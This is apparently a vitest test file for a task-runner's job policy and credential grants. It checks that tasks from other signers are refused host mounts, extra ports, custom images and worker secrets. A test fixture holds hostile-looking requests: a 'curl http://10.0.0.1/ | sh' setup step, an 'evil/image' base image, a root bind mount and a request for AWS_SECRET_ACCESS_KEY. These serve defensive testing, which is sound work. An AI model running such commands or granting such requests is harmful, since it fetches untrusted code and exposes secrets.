import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TaskRefusedError } from '../errors/index.js';
import type { TaskSpec } from '../model/index.js';
import type { TrustedSigner } from '../signing/index.js';
import { taskConfigFixture, taskSpecFixture, workerPolicyFixture } from '../test-utils/task-spec-fixture.js';
import { policyRefusals } from './job-policy.js';
import { grantTask, taskBudget } from './task-grant.js';

const owner: TrustedSigner = { name: 'me', publicKey: `ed25519:${'A'.repeat(43)}=`, owner: true };
const teammate: TrustedSigner = { name: 'bob', publicKey: `ed25519:${'B'.repeat(43)}=`, owner: false };
const context = { policy: workerPolicyFixture({ repositories: ['/repo'] }), baseImage: 'debian:bookworm-slim', remote: 'git@git.example.com:team/app.git' };

/** Everything finding 4 lists a job could ask of a worker's machine, at once. */
const demanding: TaskSpec = taskSpecFixture({
  config: taskConfigFixture({
    squidConf: 'http_port 3128\nhttp_access allow all\n',
    hostPorts: [22, 5432],
    setup: 'RUN curl http://10.0.0.1/ | sh',
    baseImage: 'evil/image:latest',
    memoryGb: 64,
    cpu: 32,
    envFromWorker: ['AWS_SECRET_ACCESS_KEY'],
  }),
});

describe('policyRefusals', () => {
  it('should let other signers use only the worker’s own remote and those `remotes` lists, with its credentials', () => {
    const on = (url: string) => taskSpecFixture({ source: { kind: 'remote', url, ref: 'refs/tsk/snapshots/Abc_1234', commit: 'a'.repeat(40) } });
    expect(policyRefusals(on(context.remote), teammate, context)).toEqual([]);
    expect(policyRefusals(on('git@evil.example.com:x.git'), teammate, context)).toEqual(['the shared remote git@evil.example.com:x.git (remotes)']);
    expect(policyRefusals(on('git@evil.example.com:x.git'), owner, context)).toEqual([]);
    const listed = { ...context, policy: workerPolicyFixture({ remotes: ['git@other.example.com:y.git'] }) };
    expect(policyRefusals(on('git@other.example.com:y.git'), teammate, listed)).toEqual([]);
    // A remote task reads no repository of this machine: `repositories` does not apply to it.
    expect(policyRefusals(on(context.remote), teammate, { ...context, policy: workerPolicyFixture({ repositories: [] }) })).toEqual([]);
  });

  it('should let the owner ask what tsk run may, except what its allow_* keys govern for everyone', () => {
    expect(policyRefusals(demanding, owner, context)).toEqual([]);
    const mounting = taskSpecFixture({ config: taskConfigFixture({ volumes: [{ kind: 'bind', host: '/', container: '/host', readonly: false }], networkIsolation: false }) });
    expect(policyRefusals(mounting, owner, context)).toEqual(['host bind mounts / (allow_bind_mounts)', 'no network isolation (allow_no_network_isolation)']);
  });

  it('should refuse every setting that reaches beyond the sandbox for another signer, naming the key that allows it', () => {
    expect(policyRefusals(demanding, teammate, context)).toEqual([
      'its own proxy configuration squid_conf (allow_squid_conf)',
      'forwarded host ports 22, 5432 (host_ports)',
      'its own image layers: setup, stack_config, agent_config or a stack tsk does not ship (allow_image_layers)',
      'base image evil/image:latest (base_images)',
      '64 GiB of memory (max_memory_gb = 12)',
      '32 CPUs (max_cpu = 8)',
      "variables AWS_SECRET_ACCESS_KEY of the worker's environment (share_env)",
    ]);
  });

  it('should allow exactly what the policy lists', () => {
    const policy = workerPolicyFixture({
      allowSquidConf: true,
      hostPorts: [5432, 22],
      allowImageLayers: true,
      baseImages: ['evil/image:latest'],
      maxMemoryGb: 64,
      maxCpu: 32,
      repositories: ['/'],
      shareEnv: ['AWS_SECRET_ACCESS_KEY'],
    });
    expect(policyRefusals(demanding, teammate, { ...context, policy })).toEqual([]);
    expect(policyRefusals(demanding, teammate, { ...context, policy: { ...policy, hostPorts: [5432] } })).toEqual(['forwarded host ports 22 (host_ports)']);
  });

  it('should let another signer read only the repositories listed, by real path', () => {
    const plain = taskSpecFixture();
    expect(policyRefusals(plain, teammate, { ...context, policy: workerPolicyFixture() })).toEqual(['reading repository /repo (repositories)']);
    expect(policyRefusals(plain, teammate, { ...context, policy: workerPolicyFixture({ repositories: ['/rep'] }) })).toEqual(['reading repository /repo (repositories)']);
    expect(policyRefusals(plain, teammate, context)).toEqual([]);
    // /repo is a symlink into a folder that is not allowed.
    expect(policyRefusals(plain, teammate, context, '/root/secret')).toEqual(['reading repository /repo (repositories)']);
  });
});

describe('grantTask', () => {
  let home: string;

  beforeEach(async () => {
    home = await mkdtemp(join(tmpdir(), 'tsk-grant-'));
    await mkdir(join(home, '.claude', 'projects'), { recursive: true });
    await writeFile(join(home, '.claude', '.credentials.json'), '{"claudeAiOauth":{"accessToken":"sk-ant-oat-owner"}}');
    await writeFile(join(home, '.claude', 'projects', 'history.jsonl'), 'every past session');
    await writeFile(join(home, '.claude.json'), JSON.stringify({ oauthAccount: { emailAddress: 'me@x' }, userID: 'u1', projects: { '/secret': { history: ['prompt'] } }, mcpServers: { evil: {} } }));
    await mkdir(join(home, 'team'));
    await writeFile(join(home, 'team', 'anthropic'), 'sk-ant-team\n');
  });

  afterEach(async () => {
    await rm(home, { recursive: true, force: true });
  });

  const claudeSpec = taskSpecFixture({ agent: 'claude', config: taskConfigFixture({ agent: 'claude' }) });

  it('should give the owner’s task the owner’s own credential (an API key in the environment first, then the login)', async () => {
    const fromLogin = await grantTask(claudeSpec, owner, { policy: workerPolicyFixture(), environment: {}, ownerHome: home });
    expect(fromLogin.env).toEqual([]);
    expect(fromLogin.credential).toMatchObject({ kind: 'login', service: 'anthropic', login: { accessToken: 'sk-ant-oat-owner' } });
    const fromEnv = await grantTask(claudeSpec, owner, { policy: workerPolicyFixture(), environment: { ANTHROPIC_API_KEY: 'sk-ant-env' }, ownerHome: home });
    expect(fromEnv.credential).toMatchObject({ kind: 'api-key', key: 'sk-ant-env', source: 'ANTHROPIC_API_KEY' });
    // The credential is for the runner's gateway: nothing of it is in what reaches the sandbox's environment.
    expect(JSON.stringify(fromEnv.env)).not.toContain('sk-ant');
  });

  it('should give another signer’s task the team key the policy names, never the owner’s login', async () => {
    const policy = workerPolicyFixture({ teamCredentials: { claude: join(home, 'team', 'anthropic') } });
    const grant = await grantTask(claudeSpec, teammate, { policy, environment: { ANTHROPIC_API_KEY: 'sk-ant-owner-env' }, ownerHome: home });
    expect(grant.credential).toMatchObject({ kind: 'api-key', key: 'sk-ant-team' });
    expect(JSON.stringify(grant)).not.toContain('sk-ant-oat-owner');
    expect(JSON.stringify(grant)).not.toContain('sk-ant-owner-env');
    await expect(grantTask(claudeSpec, teammate, { policy: workerPolicyFixture(), environment: {}, ownerHome: home })).rejects.toThrow(
      'this worker has no claude credential for tasks of bob',
    );
  });

  it('should refuse an owner’s task whose agent has no credential on this machine, saying how to log in', async () => {
    const empty = await mkdtemp(join(tmpdir(), 'tsk-grant-empty-'));
    try {
      const codexSpec = taskSpecFixture({ agent: 'codex', config: taskConfigFixture({ agent: 'codex' }) });
      const refused = grantTask(codexSpec, owner, { policy: workerPolicyFixture(), environment: {}, ownerHome: empty });
      await expect(refused).rejects.toBeInstanceOf(TaskRefusedError);
      await expect(refused).rejects.toMatchObject({ userMessage: 'No codex credential on this machine: codex tasks need a login or an API key (run `codex login`, or set OPENAI_API_KEY where the task runs)' });
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
  });

  it('should lower a task’s budget to the machine’s ceilings, and give the ceiling to a task that set none', () => {
    const ceilings = { maxCostUsd: 5, maxTimeoutSeconds: 3600 };
    expect(taskBudget({ maxCostUsd: 20, timeoutSeconds: 60, maxTurns: 9 }, ceilings)).toEqual({ maxCostUsd: 5, timeoutSeconds: 60, maxTurns: 9 });
    expect(taskBudget({}, ceilings)).toEqual({ maxCostUsd: 5, timeoutSeconds: 3600 });
    expect(taskBudget({ maxCostUsd: 2 }, { maxCostUsd: undefined, maxTimeoutSeconds: undefined })).toEqual({ maxCostUsd: 2 });
  });

  it('should fill env_from_worker from the environment of the machine that runs the task', async () => {
    const spec = taskSpecFixture({ config: taskConfigFixture({ envFromWorker: ['NPM_TOKEN'] }) });
    const grant = await grantTask(spec, owner, { policy: workerPolicyFixture(), environment: { NPM_TOKEN: 'npm_secret' }, ownerHome: home });
    expect(grant.env).toEqual([{ name: 'NPM_TOKEN', value: 'npm_secret' }]);
    await expect(grantTask(spec, owner, { policy: workerPolicyFixture(), environment: {}, ownerHome: home })).rejects.toBeInstanceOf(TaskRefusedError);
  });
});
